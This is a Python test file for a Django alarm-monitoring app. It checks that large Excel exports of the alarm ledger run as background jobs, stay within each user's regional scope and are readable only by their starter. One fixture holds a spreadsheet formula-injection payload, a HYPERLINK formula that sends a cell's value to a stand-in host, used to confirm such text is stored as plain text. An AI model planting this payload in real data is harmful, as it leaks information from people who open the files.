"""报警处置台账 over ANJIAN_EXPORT_SYNC_ROWS rows is written by a background job (issue 11,
the alarm export as a job): exactly the filtered list, as its user at run time, never an
alarm outside that user's scope, formula-like text stored as text; small exports stay a
direct download."""

from datetime import timedelta
from io import BytesIO

import pytest
from django.core.management import call_command
from django.test.utils import override_settings
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from anjian.core.models import BackgroundJob, JobStatus
from anjian.core.views import JOB_TITLES
from anjian.monitoring import exports, ingest, services
from anjian.monitoring.choices import AlarmCause, AlarmState
from anjian.monitoring.ledger import LEDGER_TITLE
from anjian.monitoring.models import Alarm, Threshold
from anjian.monitoring.tests.factories import device, metric
from testsupport import world

EXPORT = reverse("monitoring:alarm_export")
FORMULA = '=HYPERLINK("http://x.example/?"&C2,"张三")'
SUM = "=SUM(A1:A9)"


@pytest.fixture(autouse=True)
def fresh_registry():
    ingest.registry.clear()
    yield
    ingest.registry.clear()


def make_alarm(dev, *, level="high", code="level", value=9.0, limit=8.0, age_minutes=1):
    """An active alarm of ``dev`` on one of its limits, made directly (list behaviour)."""
    raised_at = timezone.now() - timedelta(minutes=age_minutes)
    measured = metric(dev.device_type.code, code)
    limit_row, _created = Threshold.objects.get_or_create(
        device=dev, metric=measured, level=level, defaults={"value": limit}
    )
    return Alarm.objects.create(
        device=dev,
        metric=measured,
        threshold=limit_row,
        enterprise=dev.enterprise,
        scope_region_code=dev.scope_region_code,
        industry_id=dev.industry_id,
        level=level,
        limit=limit,
        value=value,
        peak=value,
        breach_since=raised_at,
        raised_at=raised_at,
    )


@pytest.fixture
def alarms(db, settings, tmp_path):
    """In 杨浦区: an open 一级 tank alarm at 殷行, an open tank alarm at 平凉, a gas alarm at
    殷行 disposed with a formula-like note (on a device named like a formula). In 虹口区:
    an open fire-water alarm. Job files go to a throw-away media directory."""
    settings.MEDIA_ROOT = tmp_path
    admin = world.actor("admin")
    first = make_alarm(device("TK-A"), level="high_high", value=9.6, limit=9.2)
    second = make_alarm(device("TK-B", enterprise="pingliang_factory"), age_minutes=5)
    gas = make_alarm(
        device("GL-C", kind="gas_lel", enterprise="yinhang_site", name=SUM),
        code="lel",
        value=31.0,
        limit=25.0,
        age_minutes=60,
    )
    services.alarm_dispose(
        by=world.actor("district_official"),
        alarm_id=gas.pk,
        expected_version=gas.version,
        cause=AlarmCause.FALSE,
        note=FORMULA,
    )
    water = make_alarm(
        device("FW-H", kind="fire_water", enterprise="hongkou_shop", by=admin),
        level="low",
        code="pressure",
        value=0.08,
        limit=0.10,
    )
    return {"first": first, "second": second, "gas": gas, "water": water}


def sheets(content: bytes) -> dict[str, list[tuple]]:
    workbook = load_workbook(BytesIO(content), read_only=True)
    return {
        sheet.title: [tuple(row) for row in sheet.iter_rows(values_only=True)]
        for sheet in workbook.worksheets
    }


def codes(rows: list[tuple]) -> set[str]:
    header = rows[0]
    column = header.index("设备编码")
    return {row[column] for row in rows[1:] if row[column]}


def downloaded(client, job) -> bytes:
    response = client.get(reverse("core:job_download", args=[job.pk]))
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def export_by_job(client, capture, params=None) -> BackgroundJob:
    """Start the export as the client's user (over the limit: a job), run the worker.
    ``capture``: django_capture_on_commit_callbacks (the job is enqueued on commit)."""
    with capture(execute=True), override_settings(EXPORT_SYNC_ROWS=0):
        response = client.get(EXPORT, params or {})
    job = BackgroundJob.objects.get(kind=exports.EXPORT)
    assert response.status_code == 302
    assert response["Location"] == reverse("core:job_detail", args=[job.pk])
    call_command("worker", batch=True, verbosity=0)
    job.refresh_from_db()
    return job


def test_a_small_export_is_a_direct_download(alarms, client_for, settings):
    settings.EXPORT_SYNC_ROWS = 100
    response = client_for(world.actor("district_official")).get(EXPORT, {"state": "all"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert codes(sheets(response.content)[LEDGER_TITLE]) == {"TK-A", "TK-B", "GL-C"}
    assert not BackgroundJob.objects.exists()


def test_exactly_at_the_limit_it_is_still_a_direct_download(alarms, client_for, settings):
    settings.EXPORT_SYNC_ROWS = 3
    response = client_for(world.actor("district_official")).get(EXPORT, {"state": "all"})
    assert response.status_code == 200
    assert not BackgroundJob.objects.exists()


def test_over_the_limit_the_export_becomes_a_job_with_a_progress_page(
    alarms, client_for, settings, django_capture_on_commit_callbacks
):
    settings.EXPORT_SYNC_ROWS = 2
    client = client_for(world.actor("district_official"))
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get(EXPORT, {"state": "all"}, follow=True)
    page = response.content.decode()
    assert "报警记录导出" in page and "<progress" in page
    assert "导出行数较多，已转为后台任务" in page
    job = BackgroundJob.objects.get(kind=exports.EXPORT)
    assert job.created_by == world.actor("district_official")
    assert JOB_TITLES[exports.EXPORT] == "报警记录导出"


def test_the_job_file_holds_exactly_the_filtered_rows_in_scope(
    alarms, client_for, django_capture_on_commit_callbacks
):
    client = client_for(world.actor("district_official"))
    params = {"state": "all", "street": world.YINHANG}
    page_file = sheets(client.get(EXPORT, params).content)
    job = export_by_job(client, django_capture_on_commit_callbacks, params)

    assert job.status == JobStatus.SUCCEEDED, job.message
    job_file = sheets(downloaded(client, job))
    assert list(job_file) == list(page_file) == [LEDGER_TITLE, "导出说明"]
    assert job_file[LEDGER_TITLE] == page_file[LEDGER_TITLE]  # the same rows, the same order
    assert codes(job_file[LEDGER_TITLE]) == {"TK-A", "GL-C"}
    assert (job.total, job.done, job.report) == (2, 2, {"rows": 2})
    about = dict(job_file["导出说明"])
    assert about["筛选：街镇"] == "殷行街道" and about["筛选：状态"] == "全部"
    assert about["导出人"] == str(world.actor("district_official"))


def test_without_a_state_the_job_exports_the_open_alarms_as_the_list_shows(
    alarms, client_for, django_capture_on_commit_callbacks
):
    client = client_for(world.actor("district_official"))
    job = export_by_job(client, django_capture_on_commit_callbacks)
    assert codes(sheets(downloaded(client, job))[LEDGER_TITLE]) == {"TK-A", "TK-B"}


def test_the_neighbouring_official_s_job_holds_none_of_the_other_district_s_alarms(
    alarms, client_for, django_capture_on_commit_callbacks
):
    client = client_for(world.actor("neighbour_official"))
    job = export_by_job(client, django_capture_on_commit_callbacks, {"state": "all"})
    assert job.status == JobStatus.SUCCEEDED, job.message
    assert codes(sheets(downloaded(client, job))[LEDGER_TITLE]) == {"FW-H"}


def test_asking_for_an_out_of_scope_enterprise_exports_nothing_of_it(
    alarms, client_for, django_capture_on_commit_callbacks
):
    """The neighbour names 殷行化工 in the query string: still none of its alarms."""
    client = client_for(world.actor("neighbour_official"))
    params = {"state": "all", "enterprise": str(world.enterprise("yinhang_chemical").pk)}
    job = export_by_job(client, django_capture_on_commit_callbacks, params)
    assert "TK-A" not in codes(sheets(downloaded(client, job))[LEDGER_TITLE])
    assert job.report["rows"] <= 1


def test_the_street_officer_s_job_lists_only_their_street(
    alarms, client_for, django_capture_on_commit_callbacks
):
    client = client_for(world.actor("street_officer"))
    job = export_by_job(client, django_capture_on_commit_callbacks, {"state": "all"})
    assert codes(sheets(downloaded(client, job))[LEDGER_TITLE]) == {"TK-A", "GL-C"}


def test_the_job_reads_the_scope_when_it_runs_not_when_it_was_started(
    alarms, client_for, django_capture_on_commit_callbacks
):
    """Started as a district official moved to 殷行 before the worker runs: 殷行 only."""
    user = world.actor("district_official")
    client = client_for(user)
    with django_capture_on_commit_callbacks(execute=True), override_settings(EXPORT_SYNC_ROWS=0):
        client.get(EXPORT, {"state": "all"})
    type(user).objects.filter(pk=user.pk).update(region_id=world.YINHANG)
    call_command("worker", batch=True, verbosity=0)
    job = BackgroundJob.objects.get(kind=exports.EXPORT)
    assert codes(sheets(downloaded(client, job))[LEDGER_TITLE]) == {"TK-A", "GL-C"}


def test_a_deactivated_user_gets_a_failed_job_and_no_file(
    alarms, client_for, django_capture_on_commit_callbacks
):
    user = world.actor("district_official")
    client = client_for(user)
    with django_capture_on_commit_callbacks(execute=True), override_settings(EXPORT_SYNC_ROWS=0):
        client.get(EXPORT)
    type(user).objects.filter(pk=user.pk).update(is_active=False)
    call_command("worker", batch=True, verbosity=0)
    job = BackgroundJob.objects.get(kind=exports.EXPORT)
    assert job.status == JobStatus.FAILED and not job.output_file
    assert job.message == "导出未执行：发起人的账号已停用或已无导出权限。"


def test_only_the_user_who_started_it_sees_the_job_and_its_file(
    alarms, client_for, django_capture_on_commit_callbacks
):
    job = export_by_job(
        client_for(world.actor("district_official")), django_capture_on_commit_callbacks
    )
    assert job.output_file
    for other in ("admin", "street_officer", "neighbour_official"):
        client = client_for(world.actor(other))
        assert client.get(reverse("core:job_detail", args=[job.pk])).status_code == 404, other
        assert client.get(reverse("core:job_download", args=[job.pk])).status_code == 404, other


def test_text_beginning_with_equals_is_written_as_text_not_a_formula(
    alarms, client_for, django_capture_on_commit_callbacks
):
    assert Alarm.objects.get(pk=alarms["gas"].pk).state == AlarmState.DISPOSED
    client = client_for(world.actor("district_official"))
    job = export_by_job(client, django_capture_on_commit_callbacks, {"state": "disposed"})
    workbook = load_workbook(BytesIO(downloaded(client, job)))
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    assert FORMULA in texts and SUM in texts
